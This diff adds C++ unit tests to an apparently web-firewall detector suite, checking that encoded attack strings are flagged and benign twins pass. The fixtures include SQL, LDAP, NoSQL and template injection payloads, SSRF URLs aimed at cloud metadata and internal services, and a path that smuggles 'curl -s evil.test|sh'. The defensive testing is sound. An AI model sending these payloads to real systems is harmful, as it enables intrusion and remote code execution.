@@ -642,6 +642,76 @@ TEST_F(DetectorsTest, TemplateCrlfProcfsShapes) {
   }
 }
 
+TEST_F(DetectorsTest, PathSegmentsAreParameters) {
+  const auto path = [](std::string p) { return Req{"GET", std::move(p), {}, ""}; };
+  // A route parameter or matrix parameter carrying an injection in its own language.
+  EXPECT_TRUE(inspect(path("/shop/items/7%27%20or%20%27x%27%3D%27x/view")).attack());
+  EXPECT_TRUE(inspect(path("/files/report%3Bcurl%20-s%20evil.test%7Csh/raw")).attack());
+  EXPECT_TRUE(inspect(path("/users/u%2A%29%28%7C%28sn%3D%2A%29/profile")).attack());
+  EXPECT_TRUE(inspect(path("/docs/en%27%20union%20select%20pass%20from%20u--/toc")).attack());
+  EXPECT_TRUE(inspect(path("/img/%7B%7Bcycler.__init__.__globals__.os%7D%7D/x.png")).attack());
+  // A URL embedded in the path, in the scheme://host form a fetching proxy reads.
+  EXPECT_TRUE(inspect(path("/fetch/http://10.1.2.3:8500/v1/agent/self")).attack());
+  EXPECT_TRUE(inspect(path("/thumb/gopher%3A%2F%2F127.0.0.1%3A11211%2F_stats/100")).attack());
+  // Benign twins: ordinary slugs, dates, e-mail addresses, matrix parameters, public URLs.
+  for (const char* p : {"/blog/2024-05-01T10:00:00Z/comments", "/users/jane.doe@example.org/keys",
+                        "/catalog;jsessionid=A1B2C3/shoes;color=red", "/tags/c%2B%2B,rust/list",
+                        "/share/https://www.example.org/post/12", "/wiki/Fish_%26_Chips_(dish)",
+                        "/search/rock%20%26%20roll/page/2", "/api/v2/items/(id:42)/edit"}) {
+    EXPECT_FALSE(inspect(path(p)).attack()) << p;
+  }
+}
+
+TEST_F(DetectorsTest, UserAgentOutsideTheProductGrammar) {
+  // A User-Agent that is no product list is a value a log pipeline or link previewer may fetch.
+  EXPECT_TRUE(inspect(header("User-Agent", "http://169.254.169.254/computeMetadata/v1/")).attack());
+  EXPECT_TRUE(inspect(header("User-Agent", "gopher://localhost:6379/_INFO")).attack());
+  // Crawler User-Agents name their info page, some on private hosts in test labs.
+  for (const char* ua : {"Mozilla/5.0 (compatible; ExampleBot/2.1; +http://www.example.com/bot)",
+                         "monitor/1.0 (+http://10.0.0.5/status)", "curl/8.4.0"}) {
+    EXPECT_FALSE(inspect(header("User-Agent", ua)).attack()) << ua;
+  }
+}
+
+TEST_F(DetectorsTest, ShellValueOpeningWithASeparator) {
+  // A value that opens by ending the application's command, then a command and a separator.
+  EXPECT_TRUE(detects(query("%3Bw%7C"), AttackClass::Rce));
+  EXPECT_TRUE(detects(query("%7Cps%7C"), AttackClass::Rce));
+  EXPECT_TRUE(detects(query("%26%26ls%26%26"), AttackClass::Rce));
+  // Words listed with separators inside a value are not a command line.
+  for (const char* q : {"red%7Cps%7Cblue", "a%3Bcat%3Bb", "%7C%20Header%20%7C", "%3B-)"}) {
+    EXPECT_TRUE(clean(query(q))) << q;
+  }
+}
+
+TEST_F(DetectorsTest, NosqlOperatorAfterAStringBreakout) {
+  EXPECT_TRUE(detects(query("x%22%2C%20%24where%3A%20%22sleep(100)"), AttackClass::Nosqli));
+  EXPECT_TRUE(detects(query("%7C%7C%20%27a%27%3D%3D%27a"), AttackClass::Nosqli));
+  for (const char* q : {"price%3A%20%2410%2C%20tax%3A%20%241", "a%20%7C%7C%20b",
+                        "%22x%22%2C%20%22y%22"}) {
+    EXPECT_TRUE(clean(query(q))) << q;
+  }
+}
+
+TEST_F(DetectorsTest, LdapWildcardProbesArePl2) {
+  for (const char* q : {"root*%7C", "*%7C(", "*%7C", "%40*", "*)("}) {
+    EXPECT_TRUE(detects(atPl2(query(q)), AttackClass::Ldapi)) << q;
+    EXPECT_TRUE(clean(query(q))) << q; // a probe: not at PL1
+  }
+  for (const char* q : {"*", "*.png", "red%20shoe*", "a*b*c", "(optional)", "logs-*",
+                        "release%2F*", "*%2F*"}) {
+    EXPECT_FALSE(detects(atPl2(query(q)), AttackClass::Ldapi)) << q;
+  }
+}
+
+TEST_F(DetectorsTest, TemplateEngineInternals) {
+  EXPECT_TRUE(detects(query("%7B%24smarty.now%7D"), AttackClass::Ssti));
+  EXPECT_TRUE(detects(query("%40(9-2)"), AttackClass::Ssti));
+  for (const char* q : {"%7B%24price%7D", "mail%40(home)", "%40(2024)"}) {
+    EXPECT_TRUE(clean(query(q))) << q;
+  }
+}
+
 } // namespace
 } // namespace bulwark::detect
 
